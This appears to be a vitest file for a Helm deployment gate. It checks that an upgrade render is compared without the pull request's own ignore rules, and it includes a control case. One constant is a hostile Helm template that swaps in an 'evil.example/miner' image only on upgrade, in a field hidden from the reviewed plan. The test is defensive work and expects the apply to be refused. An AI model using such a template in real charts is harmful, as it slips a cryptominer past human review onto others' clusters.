import { mkdtemp, readFile, rm, writeFile } from "node:fs/promises";
import { tmpdir } from "node:os";
import { join } from "node:path";
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import { exec } from "../../runners/exec.js";
import type { Project } from "../../src/model/project.js";
import { installHelm } from "../../scripts/install-helm.js";
import { applyOf, planAgainstInstalled } from "../support/helm-installed.js";
import { clusterObject, clusterRelease } from "../support/k8s-stand-in.js";

/**
 * The check that a Helm upgrade renders against the cluster what the plan showed compares the two
 * with ignore rules. The project's own `ignore` / `ignore_differences` are the pull request's
 * config: they hide differences from the plan's text only (the rules that read the plan count
 * them), and must not hide what only the upgrade renders either. The helm stand-in renders an
 * upgrade of an existing release as helm does (`.Release.IsUpgrade` true).
 */
const IMAGE_LINE = 'image: "{{ .Values.image.repository }}:{{ .Values.image.tag }}"';
const ONLY_ON_UPGRADE = `image: {{ if .Release.IsUpgrade }}"evil.example/miner:1"{{ else }}"{{ .Values.image.repository }}:{{ .Values.image.tag }}"{{ end }}`;

let root = "";
let n = 0;
beforeAll(async () => {
  await installHelm();
  root = await mkdtemp(join(tmpdir(), "sluice-helm-project-ignore-"));
}, 120_000);
afterAll(async () => {
  if (root) await rm(root, { recursive: true, force: true });
});

/** The pull request's config hides the containers' images from the diff. */
const project: Project = {
  name: "web",
  dir: "charts/web",
  workspace: "default",
  runner: "helm",
  helm: { namespace: "apps", ignore: ["spec.template.spec.containers.*.image"] },
};
async function planAndApply(change: (chart: string) => Promise<void>) {
  const p = await planAgainstInstalled(join(root, String(++n)), project, { change });
  return { planned: p.outcome, result: await p.runner.apply(applyOf(p), exec), cluster: p.cluster };
}

async function edit(file: string, from: string, to: string) {
  const text = await readFile(file, "utf8");
  if (!text.includes(from)) throw new Error(`${from} not in ${file}`);
  await writeFile(file, text.replace(from, to));
}

describe("a helm apply's upgrade render is compared without the project's own ignore rules", () => {
  it("an image only the upgrade renders (.Release.IsUpgrade), in a field the PR's ignore rule hides, is refused", async () => {
    const { planned, result, cluster } = await planAndApply((chart) =>
      edit(join(chart, "templates/deployment.yaml"), IMAGE_LINE, ONLY_ON_UPGRADE),
    );
    // What the gate reads (auto_approve: empty) and reviewers see: nothing changes.
    expect(planned.ok && planned.summary.hasChanges).toBe(false);
    const live = await clusterObject(cluster, "apps", "Deployment", "web-web");
    expect(live?.spec?.template?.spec?.containers?.[0]?.image).toBe("nginx:1.27");
    expect(result).toMatchObject({ ok: false });
    expect(result.ok ? "" : result.message).toContain("update Deployment/apps/web-web");
    expect(result.ok ? "" : result.message).toContain("nothing was applied");
    expect((await clusterRelease(cluster, "apps", "web"))?.version).toBe(1);
  });

  it("control: a planned image change the same ignore rule hides from the text is applied", async () => {
    const { planned, result, cluster } = await planAndApply((chart) => edit(join(chart, "values.yaml"), 'tag: "1.27"', 'tag: "1.28"'));
    // Counted by the rules (hidden from the text only).
    expect(planned.ok && planned.summary.resources.map((r) => `${r.action} ${r.address}`)).toEqual(["update Deployment/apps/web-web"]);
    if (!result.ok) throw new Error(result.message);
    const live = await clusterObject(cluster, "apps", "Deployment", "web-web");
    expect(live?.spec?.template?.spec?.containers?.[0]?.image).toBe("nginx:1.28");
    expect((await clusterRelease(cluster, "apps", "web"))?.version).toBe(2);
  });
});
